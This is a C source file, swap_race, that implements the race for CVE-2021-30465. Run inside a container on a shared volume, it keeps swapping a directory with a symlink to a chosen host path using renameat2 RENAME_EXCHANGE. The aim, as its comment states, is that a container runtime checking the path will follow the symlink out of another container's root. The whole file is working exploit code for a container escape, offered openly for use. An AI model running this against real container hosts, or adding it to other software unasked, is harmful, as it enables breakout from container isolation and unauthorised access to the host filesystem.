/* swap_race: run inside a container, in a directory it shares with another container (a volume), it keeps
 * exchanging a directory "d" and a symlink "l" to <host path> (renameat2 RENAME_EXCHANGE, the CVE-2021-30465
 * race) for <seconds>, so that a runtime which checks "d/..." and then acts on the path string again may follow
 * the symlink out of the other container's root. Prints "swaps <n>".
 *
 *     swap_race <dir> <host path> <seconds>
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
    if (argc != 4 || chdir(argv[1]) < 0) return 2;
    mkdir("d", 0755);
    if (symlink(argv[2], "l") < 0) return 2;
    double until = now() + atof(argv[3]);
    long swaps = 0;
    while (now() < until) {
        for (int i = 0; i < 1000; i++)
            if (renameat2(AT_FDCWD, "d", AT_FDCWD, "l", RENAME_EXCHANGE) == 0) swaps++;
    }
    printf("swaps %ld\n", swaps);
    return 0;
}
